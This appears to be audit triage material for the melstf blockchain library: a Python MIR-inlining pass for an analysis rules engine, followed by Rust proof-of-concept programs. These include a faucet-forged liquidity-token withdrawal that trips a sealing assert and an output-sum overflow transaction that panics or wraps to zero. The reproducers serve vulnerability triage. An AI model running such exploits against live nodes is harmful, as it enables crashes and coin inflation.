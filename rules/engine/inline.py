"""MIR-level inlining of *unknown* local helper functions.

The rules name the functions of melstf they reason about (apply_tx_batch_impl, create_next_state, seal, ...).  A refactoring that
extracts part of such a function into a new private helper moves the statements the rules look for into a body no rule knows.  To
keep the rules about behaviour rather than about where the text lives, every function of the workspace whose name is not in the
baseline inventory (rules/known_items.json: the functions that existed when the rules were written) is spliced into its callers
before any analysis: parameters become temporaries assigned from the arguments, `return` becomes a jump to the continuation, locals
and blocks are renumbered.  Recursive helpers are left alone.  The helper's own body stays in the program (inventories still see
it) but is marked `inlined_into`, and its closures are additionally listed as closures of the caller.

This is a transformation of the *analysed representation* only; it is semantics-preserving for MIR (call-by-value of operands).
"""
import copy
import json
import os

from .mir import norm_name

HERE = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
KNOWN_PATH = os.path.join(HERE, "known_items.json")
MAX_ROUNDS = 4
MAX_BLOCKS = 6000


def load_known():
    if not os.path.exists(KNOWN_PATH):
        return None
    return json.load(open(KNOWN_PATH))


def _map_place(p, off):
    q = {"l": p["l"] + off, "p": []}
    for x in p["p"]:
        if x["k"] == "index":
            y = dict(x)
            y["l"] = x["l"] + off
            q["p"].append(y)
        else:
            q["p"].append(x)
    return q


def _map_op(o, off, owner):
    if not isinstance(o, dict):
        return o
    if o.get("k") in ("move", "copy"):
        return {"k": o["k"], "place": _map_place(o["place"], off)}
    if o.get("k") == "const" and "promoted" in o and "promoted_owner" not in o:
        y = dict(o)
        y["promoted_owner"] = owner
        return y
    return o


def _map_rv(rv, off, owner):
    r = dict(rv)
    k = rv["k"]
    if k in ("ref", "rawptr", "discr", "len") and "place" in rv:
        r["place"] = _map_place(rv["place"], off)
    for key in ("op", "a", "b"):
        if key in rv:
            r[key] = _map_op(rv[key], off, owner)
    if "ops" in rv:
        r["ops"] = [_map_op(o, off, owner) for o in rv["ops"]]
    if "place" in rv and k not in ("ref", "rawptr", "discr", "len"):
        r["place"] = _map_place(rv["place"], off)
    return r


def _map_stmt(s, off, owner):
    t = dict(s)
    if "place" in s:
        t["place"] = _map_place(s["place"], off)
    if "rv" in s:
        t["rv"] = _map_rv(s["rv"], off, owner)
    return t


def _map_term(t, off, boff, owner, cont):
    """cont: block index to jump to on `return` (None: diverging call site)"""
    if t is None:
        return None
    k = t["k"]
    r = dict(t)
    if k == "return":
        if cont is None:
            return {"k": "unreachable", "line": t.get("line"), "exp": t.get("exp", False)}
        return {"k": "goto", "t": cont, "line": t.get("line"), "exp": t.get("exp", False)}
    if k == "goto":
        r["t"] = t["t"] + boff
    elif k == "switch":
        r["discr"] = _map_op(t["discr"], off, owner)
        r["targets"] = [[v, tg + boff] for v, tg in t["targets"]]
        r["otherwise"] = None if t["otherwise"] is None else t["otherwise"] + boff
    elif k == "call":
        r["args"] = [_map_op(o, off, owner) for o in t["args"]]
        if t.get("fnop") is not None:
            r["fnop"] = _map_op(t["fnop"], off, owner)
        if t.get("dest") is not None:
            r["dest"] = _map_place(t["dest"], off)
        r["target"] = None if t.get("target") is None else t["target"] + boff
        r["unwind"] = None if t.get("unwind") is None else (t["unwind"] + boff if isinstance(t["unwind"], int) else t["unwind"])
    elif k == "drop":
        r["place"] = _map_place(t["place"], off)
        r["target"] = None if t.get("target") is None else t["target"] + boff
        r["unwind"] = None if t.get("unwind") is None else (t["unwind"] + boff if isinstance(t["unwind"], int) else t["unwind"])
    elif k == "assert":
        r["cond"] = _map_op(t["cond"], off, owner)
        r["msg_ops"] = [_map_op(o, off, owner) for o in t.get("msg_ops", [])]
        r["target"] = None if t.get("target") is None else t["target"] + boff
    return r


def _inline_site(F, bi, H):
    """splice H's body into F at the call terminating block bi"""
    t = F["blocks"][bi]["term"]
    off = len(F["locals"])
    boff = len(F["blocks"])
    owner = H["id"]
    F["locals"].extend(copy.deepcopy(H["locals"]))
    # names of the helper's own variables (not its parameters: those are pure aliases of the arguments)
    for d in H.get("debug", []):
        p = d.get("place")
        if not p or d.get("arg"):
            continue
        if 1 <= p["l"] <= H["arg_count"] and not p["p"]:
            continue
        F["debug"].append({"name": d["name"], "place": _map_place(p, off), "inlined_from": owner})
    # continuation: dest = move ret; goto target
    cont = None
    nH = len(H["blocks"])
    if t.get("target") is not None:
        cont = boff + nH
    for hb in H["blocks"]:
        F["blocks"].append({"cleanup": hb.get("cleanup", False),
                            "stmts": [_map_stmt(s, off, owner) for s in hb["stmts"]],
                            "term": _map_term(hb["term"], off, boff, owner, cont),
                            "inlined_from": owner})
    if cont is not None:
        F["blocks"].append({"cleanup": False,
                            "stmts": [{"k": "assign", "place": t["dest"], "rv": {"k": "use", "op": {"k": "move", "place": {"l": off, "p": []}}},
                                       "line": t.get("line"), "exp": t.get("exp", False)}],
                            "term": {"k": "goto", "t": t["target"], "line": t.get("line"), "exp": t.get("exp", False)},
                            "inlined_from": owner})
    _thread_try(F, t, off, boff, nH)
    if cont is not None and t["dest"]["l"] == 0 and not t["dest"]["p"]:
        # tail position (`fn f() -> R { ..; helper(..) }`): the helper's return slot *is* f's, so that its `Ok(..)` / `Err(..)` are f's results
        _rename_local(F["blocks"][boff:], off, 0)
        F["blocks"][cont]["stmts"] = []
    # parameter passing + jump
    blk = F["blocks"][bi]
    for k, a in enumerate(t["args"]):
        blk["stmts"].append({"k": "assign", "place": {"l": off + 1 + k, "p": []}, "rv": {"k": "use", "op": a}, "line": t.get("line"), "exp": t.get("exp", False)})
    blk["term"] = {"k": "goto", "t": boff, "line": t.get("line"), "exp": t.get("exp", False), "inlined_call": owner}


def _rename_local(blocks, a, b):
    def place(p):
        if p["l"] == a:
            p["l"] = b
        for x in p["p"]:
            if x["k"] == "index" and x["l"] == a:
                x["l"] = b

    def op(o):
        if isinstance(o, dict) and o.get("k") in ("move", "copy"):
            place(o["place"])
    for blk in blocks:
        for s_ in blk["stmts"]:
            if "place" in s_:
                place(s_["place"])
            rv = s_.get("rv") or {}
            if "place" in rv:
                place(rv["place"])
            for key in ("op", "a", "b"):
                if key in rv:
                    op(rv[key])
            for o in rv.get("ops", []):
                op(o)
        t_ = blk["term"]
        if not t_:
            continue
        for key in ("discr", "cond", "fnop"):
            if key in t_ and t_[key] is not None:
                op(t_[key])
        for o in t_.get("args", []) + t_.get("msg_ops", []):
            op(o)
        if t_.get("dest"):
            place(t_["dest"])
        if t_["k"] == "drop":
            place(t_["place"])


def _agg(path, variant, vidx, ops):
    return {"k": "agg", "ak": "adt", "path": path, "variant": variant, "vidx": vidx, "fields": ["0"] if ops else [], "ops": ops}


def _thread_bool(F, t, off, boff, nH, sw):
    """`if helper(..) { A } else { B }` with a bool-returning helper: a return site that assigns a constant `true`/`false` goes straight to A / B"""
    dest = t["dest"]
    ret, cont, line = off, boff + nH, t.get("line")
    arms = {str(v): tg for v, tg in sw["targets"]}

    def succ_of(term):
        return term["t"] if term["k"] == "goto" else term.get("target") if term["k"] == "drop" else None

    def chain_to_cont(first):
        chain, cur = [], first
        while cur != cont:
            if cur is None or not (boff <= cur < boff + nH) or len(chain) > 8:
                return None
            blk = F["blocks"][cur]
            if not blk["term"] or blk["term"]["k"] not in ("goto", "drop") or any(s_["k"] == "assign" and s_["place"]["l"] == ret for s_ in blk["stmts"]):
                return None
            chain.append(cur)
            cur = succ_of(blk["term"])
        return chain
    for k in range(boff, boff + nH):
        blk = F["blocks"][k]
        term = blk["term"]
        if not term or term["k"] not in ("goto", "drop"):
            continue
        last = None
        for s_ in blk["stmts"]:
            if s_["k"] == "assign" and s_["place"]["l"] == ret and not s_["place"]["p"]:
                last = s_
        if last is None or last["rv"].get("k") != "use" or last["rv"]["op"].get("k") != "const" or last["rv"]["op"].get("ty") != "bool" or "int" not in last["rv"]["op"]:
            continue
        v = str(int(last["rv"]["op"]["int"]))
        arm = arms.get(v, sw.get("otherwise"))
        chain = chain_to_cont(succ_of(term))
        if arm is None or chain is None:
            continue
        F["blocks"].append({"cleanup": False, "stmts": [{"k": "assign", "place": dest, "rv": {"k": "use", "op": dict(last["rv"]["op"])}, "line": line, "exp": True}],
                            "term": {"k": "goto", "t": arm, "line": line, "exp": True}, "inlined_from": "bool-thread"})
        nxt = len(F["blocks"]) - 1
        for c in reversed(chain):
            cp = copy.deepcopy(F["blocks"][c])
            if cp["term"]["k"] == "goto":
                cp["term"]["t"] = nxt
            else:
                cp["term"]["target"] = nxt
            F["blocks"].append(cp)
            nxt = len(F["blocks"]) - 1
        if term["k"] == "goto":
            term["t"] = nxt
        else:
            term["target"] = nxt


def _thread_try(F, t, off, boff, nH):
    """`helper(..)?` — keep the helper's return paths apart.  After splicing, every `return` of the helper jumps to one continuation block where the
    caller evaluates `Try::branch(result)` and switches on it; an analysis that is not path-sensitive would then let the helper's `return Err(..)`
    flow into the caller's success arm.  Where a return site visibly builds `Ok(v)` / `Err(e)` / `Some(v)` / `None` (or takes the result of
    `from_residual`, i.e. an inner `?` failing), it is wired straight to the matching arm of the caller's switch."""
    tgt = t.get("target")
    dest = t.get("dest")
    if tgt is None or dest is None or dest["p"]:
        return
    T = F["blocks"][tgt]
    tt = T["term"]
    if not T["stmts"] and tt and tt["k"] == "switch" and tt.get("discr_ty") == "bool" and tt["discr"].get("k") in ("move", "copy") \
            and tt["discr"]["place"]["l"] == dest["l"] and not tt["discr"]["place"]["p"]:
        _thread_bool(F, t, off, boff, nH, tt)
        return
    if T["stmts"] or not tt or tt["k"] != "call" or not tt.get("fn") or not tt["fn"]["path"].endswith("Try::branch"):
        return
    a0 = tt["args"][0] if tt["args"] else None
    if not a0 or a0.get("k") != "move" or a0["place"]["l"] != dest["l"] or a0["place"]["p"] or tt.get("target") is None or tt["dest"]["p"]:
        return
    bl = tt["dest"]["l"]
    T2 = F["blocks"][tt["target"]]
    if len(T2["stmts"]) != 1 or T2["stmts"][0]["rv"].get("k") != "discr" or T2["stmts"][0]["rv"]["place"]["l"] != bl or T2["term"]["k"] != "switch":
        return
    arms = {str(v): tg for v, tg in T2["term"]["targets"]}
    if "0" not in arms or "1" not in arms:
        return
    TC, TB = arms["0"], arms["1"]
    ret = off          # the helper's return slot after renumbering
    cont = boff + nH   # generic continuation
    line = t.get("line")

    def new_block(stmts, goto):
        F["blocks"].append({"cleanup": False, "stmts": [dict(s_, line=line, exp=True) for s_ in stmts], "term": {"k": "goto", "t": goto, "line": line, "exp": True}, "inlined_from": "try-thread"})
        return len(F["blocks"]) - 1

    def tmp_local(ty="?"):
        F["locals"].append({"ty": ty, "mut": True})
        return len(F["locals"]) - 1
    CF = "std::ops::ControlFlow"

    def succ_of(term):
        if term["k"] == "goto":
            return term["t"]
        if term["k"] == "drop":
            return term.get("target")
        return None

    def set_succ(term, v):
        if term["k"] == "goto":
            term["t"] = v
        else:
            term["target"] = v

    def assigns_ret(blk):
        return any(s_["k"] == "assign" and s_["place"]["l"] == ret for s_ in blk["stmts"]) or \
            (blk["term"] and blk["term"]["k"] == "call" and blk["term"].get("dest") and blk["term"]["dest"]["l"] == ret)

    def chain_to_cont(first):
        """linear blocks (goto / drop, no write of the return slot) from `first` up to the continuation, or None"""
        chain, cur = [], first
        while cur != cont:
            if cur is None or not (boff <= cur < boff + nH) or len(chain) > 8:
                return None
            blk = F["blocks"][cur]
            if not blk["term"] or blk["term"]["k"] not in ("goto", "drop") or assigns_ret(blk):
                return None
            chain.append(cur)
            cur = succ_of(blk["term"])
        return chain

    def rewire(term, first_succ, stmts, arm):
        chain = chain_to_cont(first_succ)
        if chain is None:
            return False
        nb = new_block(stmts, arm)
        nxt = nb
        for c in reversed(chain):          # private copies of the (effect-free) blocks between the return site and the continuation
            src = F["blocks"][c]
            cp = copy.deepcopy(src)
            set_succ(cp["term"], nxt)
            F["blocks"].append(cp)
            nxt = len(F["blocks"]) - 1
        if term["k"] == "call":
            term["target"] = nxt
        else:
            set_succ(term, nxt)
        return True
    for k in range(boff, boff + nH):
        blk = F["blocks"][k]
        term = blk["term"]
        if not term:
            continue
        # an inner `?` of the helper failing: `_0 = from_residual(..)` then return
        if term["k"] == "call" and term.get("fn") and term["fn"]["path"].endswith("FromResidual::from_residual") and term.get("dest") and term["dest"]["l"] == ret and not term["dest"]["p"] \
                and term.get("target") is not None:
            rewire(term, term["target"], [{"k": "assign", "place": {"l": bl, "p": []}, "rv": _agg(CF, "Break", 1, [{"k": "move", "place": {"l": ret, "p": []}}])}], TB)
            continue
        if term["k"] not in ("goto", "drop"):
            continue
        last = None
        for s_ in blk["stmts"]:
            if s_["k"] == "assign" and s_["place"]["l"] == ret and not s_["place"]["p"]:
                last = s_
        if last is None or last["rv"].get("k") != "agg" or last["rv"].get("ak") != "adt":
            continue
        rv = last["rv"]
        pth, var = rv["path"], rv["variant"]
        if pth.endswith("result::Result") and var == "Ok" or pth.endswith("option::Option") and var == "Some":
            rewire(term, succ_of(term), [{"k": "assign", "place": {"l": bl, "p": []}, "rv": _agg(CF, "Continue", 0, list(rv["ops"]))}], TC)
        elif pth.endswith("result::Result") and var == "Err" or pth.endswith("option::Option") and var == "None":
            tl = tmp_local()
            rewire(term, succ_of(term), [{"k": "assign", "place": {"l": tl, "p": []}, "rv": dict(rv)},
                                        {"k": "assign", "place": {"l": bl, "p": []}, "rv": _agg(CF, "Break", 1, [{"k": "move", "place": {"l": tl, "p": []}}])}], TB)


def eta_expand_tail_results(crates):
    """`fn f(..) -> Result<T, E> { ..; g(..) }` — the result of a local callee returned as is.  The rules speak of the blocks where a function
    returns Ok / Err; `g(..)?; Ok(())` has them, the tail call does not.  The tail call is rewritten into the identity
    `match g(..) { Ok(v) => Ok(v), Err(e) => Err(e) }` (and the same for Option), which makes both outcomes explicit blocks."""
    n = 0
    for j in crates:
        for F in j["bodies"]:
            if F["kind"] == "Promoted" or not F["locals"]:
                continue
            rty = F["locals"][0]["ty"]
            if rty.startswith("std::result::Result<"):
                adt, variants = "std::result::Result", [("Ok", True), ("Err", True)]
            elif rty.startswith("std::option::Option<"):
                adt, variants = "std::option::Option", [("None", False), ("Some", True)]
            else:
                continue
            for bi in range(len(F["blocks"])):
                t = F["blocks"][bi]["term"]
                if not t or t["k"] != "call" or not t.get("fn") or not t["fn"].get("resolved_local") or t.get("target") is None:
                    continue
                d = t.get("dest")
                if not d or d["l"] != 0 or d["p"] or t["fn"]["path"].endswith("from_residual"):
                    continue
                line = t.get("line")
                F["locals"].append({"ty": rty, "mut": True})
                tmp = len(F["locals"]) - 1
                F["locals"].append({"ty": "isize", "mut": True})
                dl = len(F["locals"]) - 1
                old_target = t["target"]
                arms = []
                for vi, (vn, has) in enumerate(variants):
                    ops = []
                    if has:
                        ops = [{"k": "move", "place": {"l": tmp, "p": [{"k": "downcast", "v": vn, "i": vi}, {"k": "field", "i": 0, "n": "0", "owner": adt, "ty": "?"}]}}]
                    F["blocks"].append({"cleanup": False, "stmts": [{"k": "assign", "place": {"l": 0, "p": []}, "line": line, "exp": False,
                                                                  "rv": {"k": "agg", "ak": "adt", "path": adt, "variant": vn, "vidx": vi, "fields": ["0"] if has else [], "ops": ops}}],
                                        "term": {"k": "goto", "t": old_target, "line": line, "exp": False}, "eta": True})
                    arms.append([str(vi), len(F["blocks"]) - 1])
                F["blocks"].append({"cleanup": False, "stmts": [], "term": {"k": "unreachable", "line": line, "exp": True}, "eta": True})
                un = len(F["blocks"]) - 1
                F["blocks"].append({"cleanup": False, "stmts": [{"k": "assign", "place": {"l": dl, "p": []}, "rv": {"k": "discr", "place": {"l": tmp, "p": []}}, "line": line, "exp": True}],
                                    "term": {"k": "switch", "discr": {"k": "move", "place": {"l": dl, "p": []}}, "discr_ty": "isize", "targets": arms, "otherwise": un, "line": line, "exp": True}, "eta": True})
                t["dest"] = {"l": tmp, "p": []}
                t["target"] = len(F["blocks"]) - 1
                n += 1
    return n


def _crate_of(bj):
    """crate a body belongs to: `melstf::..` or `<melstf::X as melstf::T>::f` (a trait impl is attributed to the crate of its first path)"""
    n = norm_name(bj["name"])
    m = __import__("re").search(r"([A-Za-z_][A-Za-z0-9_]*)::", n)
    return m.group(1) if m else n


def inline_unknown(crates, known):
    """crates: list of per-crate fact dicts (mutated in place).  Returns {helper id: [caller ids]}"""
    if not known:
        return {}
    known_fns = set(known.get("fns", []))
    by_id = {}
    for j in crates:
        for b in j["bodies"]:
            by_id[b["id"]] = b
    unknown = {b["id"]: b for b in by_id.values() if b["kind"] in ("Fn", "AssocFn") and norm_name(b["name"]) not in known_fns}
    # a known function that moved (method <-> free function, another module): same final name, old path gone, exactly one candidate —
    # it stays a function of its own and answers to its old name
    present = {norm_name(b["name"]) for b in by_id.values()}
    missing = [k for k in known_fns if k not in present]
    aliases = {}
    for k in missing:
        last = k.rsplit("::", 1)[-1]
        cands = [u for u in unknown.values() if norm_name(u["name"]).rsplit("::", 1)[-1] == last and u["crate_hint"] == k.split("::", 1)[0]] if False else \
                [u for u in unknown.values() if norm_name(u["name"]).rsplit("::", 1)[-1] == last and norm_name(u["name"]).split("::", 1)[0] == k.split("::", 1)[0]]
        same_last_missing = [m for m in missing if m.rsplit("::", 1)[-1] == last]
        if len(cands) == 1 and len(same_last_missing) == 1:
            aliases[k] = cands[0]["id"]
    # a known function that was renamed (free helper -> method of a private extension trait, a more telling name): the old path is gone, and exactly one
    # function the rules do not know has the same parameter types in the same crate, while no other missing function has them.  The rules then read the
    # renamed function under its old name (and still decide its content: a wrong guess can only fail them).
    sigs = known.get("sigs", {})
    import re as _re

    def ptypes(bj):
        try:
            return [_re.sub(r"'[a-z_0-9]+ ?", "", bj["locals"][i]["ty"]) for i in range(1, bj["arg_count"] + 1)]
        except Exception:
            return None
    taken = set(aliases.values())
    for k in missing:
        if k in aliases or not sigs.get(k):
            continue
        crate = k.split("::", 1)[0]
        cands = [u for u in unknown.values() if u["id"] not in taken and _crate_of(u) == crate and ptypes(u) == sigs[k]]
        rivals = [m for m in missing if m != k and m not in aliases and sigs.get(m) == sigs[k] and m.split("::", 1)[0] == crate]
        if len(cands) == 1 and not rivals:
            aliases[k] = cands[0]["id"]
            taken.add(cands[0]["id"])
    for k, uid in aliases.items():
        unknown.pop(uid, None)
        by_id[uid]["alias_of"] = k
    if not unknown:
        return {}

    def callees(b):
        out = set()
        for blk in b["blocks"]:
            t = blk["term"]
            if t and t["k"] == "call" and t.get("fn") and t["fn"].get("resolved_local"):
                out.add(t["fn"].get("resolved_id") or t["fn"].get("id"))
        return out

    # recursive helpers (reach themselves through unknown helpers) are not inlined
    rec = set()
    for hid in unknown:
        seen, st = set(), [hid]
        while st:
            x = st.pop()
            for c in callees(by_id[x]) if x in by_id else ():
                if c == hid:
                    rec.add(hid)
                if c in unknown and c not in seen:
                    seen.add(c)
                    st.append(c)
    todo = {h: b for h, b in unknown.items() if h not in rec}
    where = {}
    for _ in range(MAX_ROUNDS):
        changed = False
        # inline into helpers first so that what gets spliced into known bodies is already flat
        order = sorted(by_id.values(), key=lambda b: (0 if b["id"] in todo else 1, b["id"]))
        for F in order:
            if F["kind"] == "Promoted":
                continue
            bi = 0
            while bi < len(F["blocks"]) and len(F["blocks"]) < MAX_BLOCKS:
                t = F["blocks"][bi]["term"]
                if t and t["k"] == "call" and t.get("fn") and t["fn"].get("resolved_local"):
                    cid = t["fn"].get("resolved_id") or t["fn"].get("id")
                    H = todo.get(cid)
                    if H is not None and H is not F and len(t["args"]) == H["arg_count"]:
                        _inline_site(F, bi, H)
                        where.setdefault(cid, [])
                        if F["id"] not in where[cid]:
                            where[cid].append(F["id"])
                        changed = True
                bi += 1
        if not changed:
            break
    for hid, callers in where.items():
        by_id[hid]["inlined_into"] = callers
    return where
