use melvm::{Covenant, opcode::OpCode};
fn main(){
    for n in [16usize, 20, 22, 24] {
        let ops: Vec<OpCode> = (0..n).map(|_| OpCode::Loop(0, 60000)).collect();
        let c = Covenant::from_ops(&ops);
        let t = std::time::Instant::now();
        let w = c.weight();
        println!("n={} bytes={} weight={} time={:?}", n, c.to_bytes().len(), w, t.elapsed());
    }
}
