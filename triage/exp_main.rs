use melstf::*;
use melstructs::*;
use melvm::Covenant;
use novasmt::{Database, InMemoryCas};
use std::collections::BTreeMap;
use stdcode::StdcodeSerializeExt;

fn genesis(stakes: BTreeMap<TxHash, StakeDoc>) -> UnsealedState<InMemoryCas> {
    let db = Database::new(InMemoryCas::default());
    GenesisConfig {
        network: NetID::Custom02,
        init_coindata: CoinData { covhash: Covenant::always_true().hash(), value: CoinValue(1_000_000_000), denom: Denom::Mel, additional_data: vec![].into() },
        stakes,
        init_fee_pool: CoinValue(0),
        init_fee_multiplier: 0,
    }.realize(&db)
}
fn tx(kind: TxKind, inputs: Vec<CoinID>, outputs: Vec<CoinData>, data: Vec<u8>) -> Transaction {
    Transaction { kind, inputs, outputs, fee: CoinValue(0), covenants: vec![Covenant::always_true().to_bytes()], data: data.into(), sigs: vec![] }
}
fn cd(v: u128, d: Denom) -> CoinData { CoinData { covhash: Covenant::always_true().hash(), value: CoinValue(v), denom: d, additional_data: vec![].into() } }

fn main() {
    let which = std::env::args().nth(1).unwrap();
    match which.as_str() {
        "confirm" => {
            let (pk, sk) = tmelcrypt::ed25519_keygen();
            let mut stakes = BTreeMap::new();
            stakes.insert(TxHash(tmelcrypt::hash_single(b"a")), StakeDoc { pubkey: pk, e_start: 0, e_post_end: 10, syms_staked: CoinValue(100) });
            let s = genesis(stakes).seal(None);
            let empty: ConsensusProof = BTreeMap::new();
            println!("empty proof confirms: {}", s.confirm(empty).is_some());
            let mut full: ConsensusProof = BTreeMap::new();
            full.insert(pk, sk.sign(&s.header().hash()).into());
            println!("full proof confirms: {}", s.confirm(full).is_some());
        }
        "order" => {
            let g = genesis(BTreeMap::new()).seal(None).next_unsealed();
            let a = tx(TxKind::Normal, vec![CoinID::zero_zero()], vec![cd(1_000_000_000, Denom::Mel)], vec![]);
            let b = tx(TxKind::Normal, vec![a.output_coinid(0)], vec![cd(1_000_000_000, Denom::Mel)], vec![1]);
            let mut s1 = g.clone(); s1.apply_tx_batch(&[a.clone(), b.clone()]).unwrap();
            let mut s2 = g.clone(); s2.apply_tx_batch(&[b.clone(), a.clone()]).unwrap();
            let (h1, h2) = (s1.seal(None), s2.seal(None));
            println!("in-order coins_hash  {:?}", h1.header().coins_hash);
            println!("reversed coins_hash  {:?}", h2.header().coins_hash);
            println!("in-order: A.out0 present {}", h1.coin(a.output_coinid(0)).is_some());
            println!("reversed: A.out0 present {} (spent by B)", h2.coin(a.output_coinid(0)).is_some());
        }
        "swapzero" => {
            let mut g = genesis(BTreeMap::new()).seal(None).next_unsealed();
            let a = tx(TxKind::Swap, vec![CoinID::zero_zero()], vec![cd(0, Denom::Mel), cd(1_000_000_000, Denom::Mel)], Denom::Sym.to_bytes().to_vec());
            g.apply_tx(&a).unwrap();
            let _ = g.seal(None);
            println!("sealed fine");
        }
        "swapkind" => {
            let mut g = genesis(BTreeMap::new()).seal(None).next_unsealed();
            let a = tx(TxKind::Normal, vec![CoinID::zero_zero()], vec![cd(1_000_000_000, Denom::Mel)], Denom::Sym.to_bytes().to_vec());
            g.apply_tx(&a).unwrap();
            let s = g.seal(None);
            println!("Normal tx output after seal: {:?}", s.coin(a.output_coinid(0)));
        }
        "revkey" => {
            // non-canonical pool key: (Sym, Mel) spelled long-form
            let mut g = genesis(BTreeMap::new()).seal(None).next_unsealed();
            let mut data = vec![0u8; 32];
            data.extend_from_slice(&(Denom::Sym, Denom::Mel).stdcode());
            println!("parsed: {:?}", PoolKey::from_bytes(&data));
            let before = genesis(BTreeMap::new()).seal(None).pool(PoolKey::new(Denom::Mel, Denom::Sym));
            let a = tx(TxKind::Swap, vec![CoinID::zero_zero()], vec![cd(1_000_000_000, Denom::Mel)], data);
            g.apply_tx(&a).unwrap();
            let s = g.seal(None);
            println!("pool before {:?}", before);
            println!("pool after  {:?}", s.pool(PoolKey::new(Denom::Mel, Denom::Sym)));
            println!("coin after seal: {:?}", s.coin(a.output_coinid(0)));
        }
        "tips" => {
            let mut g = genesis(BTreeMap::new()).seal(None).next_unsealed();
            let mut a = tx(TxKind::Normal, vec![CoinID::zero_zero()], vec![cd(999_000_000, Denom::Mel)], vec![]);
            a.fee = CoinValue(1_000_000);
            g.apply_tx(&a).unwrap();
            let sealed = g.seal(None);
            let db = Database::new(InMemoryCas::default());
            let _ = db; 
            let blk = sealed.to_block();
            let rebuilt = SealedState::from_block(&blk, &sealed.raw_stakes(), &sealed.raw_coins_smt().database());
            let act = ProposerAction { fee_multiplier_delta: 0, reward_dest: Covenant::always_true().hash() };
            let n1 = sealed.next_unsealed().seal(Some(act));
            let n2 = rebuilt.next_unsealed().seal(Some(act));
            println!("orig next header hash    {:?}", n1.header().hash());
            println!("rebuilt next header hash {:?}", n2.header().hash());
            println!("reward orig {:?}", n1.coin(CoinID::proposer_reward(n1.header().height)).map(|c| c.coin_data.value));
            println!("reward rebuilt {:?}", n2.coin(CoinID::proposer_reward(n2.header().height)).map(|c| c.coin_data.value));
        }
        "feemul" => {
            let db = Database::new(InMemoryCas::default());
            let g: UnsealedState<InMemoryCas> = GenesisConfig {
                network: NetID::Custom02,
                init_coindata: cd(1000, Denom::Mel), stakes: BTreeMap::new(), init_fee_pool: CoinValue(0), init_fee_multiplier: 1,
            }.realize(&db);
            let act = ProposerAction { fee_multiplier_delta: -128, reward_dest: Covenant::always_true().hash() };
            let s = g.seal(Some(act));
            println!("fee multiplier after: {}", s.header().fee_multiplier);
        }
        _ => {}
    }
}
