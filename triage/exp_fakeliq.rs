// faucet-enabled networks: a Faucet transaction may create coins of ANY denomination, including the liquidity token of a pool
// (Denom::Custom(hash_keyed("liq", pool key))): withdrawing more liquidity than the pool records trips `assert!(self.liqs >= liqs)` in
// PoolState::withdraw while sealing.
use melstf::*;
use melstructs::*;
use melvm::Covenant;
use novasmt::{Database, InMemoryCas};
use std::collections::BTreeMap;
fn cd(v: u128, d: Denom) -> CoinData { CoinData { covhash: Covenant::always_true().hash(), value: CoinValue(v), denom: d, additional_data: vec![].into() } }
fn main() {
    let db = Database::new(InMemoryCas::default());
    let g = GenesisConfig { network: NetID::Custom02, init_coindata: cd(1_000_000, Denom::Mel), stakes: BTreeMap::new(), init_fee_pool: CoinValue(0), init_fee_multiplier: 0 }.realize(&db);
    let s0 = g.seal(None);
    let pk = PoolKey::new(Denom::Mel, Denom::Sym);
    println!("built-in MEL/SYM pool: {:?}", s0.pool(pk));
    let mut u = s0.next_unsealed();
    let amount: u128 = std::env::args().nth(1).map(|a| a.parse().unwrap()).unwrap_or(2_000_000_000);
    let f = Transaction { kind: TxKind::Faucet, inputs: vec![], outputs: vec![cd(amount, pk.liq_token_denom()), cd(10, Denom::Mel)], fee: CoinValue(0), covenants: vec![], data: vec![9].into(), sigs: vec![] };
    println!("faucet minting {} MEL/SYM liquidity tokens: {:?}", amount, u.apply_tx(&f));
    let w = Transaction { kind: TxKind::LiqWithdraw, inputs: vec![f.output_coinid(0), f.output_coinid(1)], outputs: vec![cd(amount, pk.liq_token_denom())], fee: CoinValue(10),
                          covenants: vec![Covenant::always_true().to_bytes()], data: pk.to_bytes().to_vec().into(), sigs: vec![] };
    println!("withdrawal of the forged tokens: {:?}", u.apply_tx(&w));
    println!("sealing ...");
    let s1 = u.seal(None);
    println!("sealed; pool {:?}; paid out {:?} / {:?}", s1.pool(pk), s1.coin(w.output_coinid(0)).map(|c| c.coin_data.value), s1.coin(w.output_coinid(1)).map(|c| c.coin_data.value));
    let mut s = s1;
    for _ in 0..3 {
        s = s.next_unsealed().seal(Some(ProposerAction { fee_multiplier_delta: 1, reward_dest: Covenant::always_true().hash() }));
    }
    println!("three more blocks sealed; pool {:?}", s.pool(pk));
}
