// D17: Transaction::total_outputs() adds with plain `+`; is_well_formed bounds each value and the fee by 2^120 and the outputs by 255,
// so 255 MEL outputs of 2^120 plus a fee of 2^120 total exactly 2^128: panic with overflow checks, wrap to 0 without.
use melstf::*;
use melstructs::*;
use melvm::Covenant;
use novasmt::{Database, InMemoryCas};
use std::collections::BTreeMap;
fn genesis() -> UnsealedState<InMemoryCas> {
    let db = Database::new(InMemoryCas::default());
    GenesisConfig { network: NetID::Custom02, init_coindata: cd(1_000_000, Denom::Mel), stakes: BTreeMap::new(), init_fee_pool: CoinValue(0), init_fee_multiplier: 0 }.realize(&db)
}
fn cd(v: u128, d: Denom) -> CoinData { CoinData { covhash: Covenant::always_true().hash(), value: CoinValue(v), denom: d, additional_data: vec![].into() } }
fn tx(kind: TxKind, inputs: Vec<CoinID>, outputs: Vec<CoinData>, fee: u128, data: Vec<u8>) -> Transaction {
    Transaction { kind, inputs, outputs, fee: CoinValue(fee), covenants: vec![Covenant::always_true().to_bytes()], data: data.into(), sigs: vec![] }
}
fn main() {
    let mut g = genesis().seal(None).next_unsealed();
    // a zero-valued MEL coin, obtained by an ordinary split of the genesis coin
    let split = tx(TxKind::Normal, vec![CoinID::zero_zero()], vec![cd(1_000_000, Denom::Mel), cd(0, Denom::Mel)], 0, vec![]);
    println!("split: {:?}", g.apply_tx(&split));
    let big = 1u128 << 120;
    let evil = tx(TxKind::Normal, vec![split.output_coinid(1)], (0..255).map(|_| cd(big, Denom::Mel)).collect(), big, vec![]);
    println!("well formed: {}", evil.is_well_formed());
    let r = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| g.apply_tx(&evil)));
    match r {
        Err(_) => println!("apply_tx PANICKED"),
        Ok(res) => {
            println!("apply_tx returned {:?}", res);
            let s = g.seal(None);
            let c = s.coin(evil.output_coinid(0));
            println!("first created coin: {:?}", c.map(|c| c.coin_data.value));
        }
    }
}
