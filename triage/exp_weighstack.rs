// melvm: the weight of a covenant is computed by mutual recursion opcodes_weight -> opcodes_car_weight -> opcodes_weight(loop body), one level per Loop
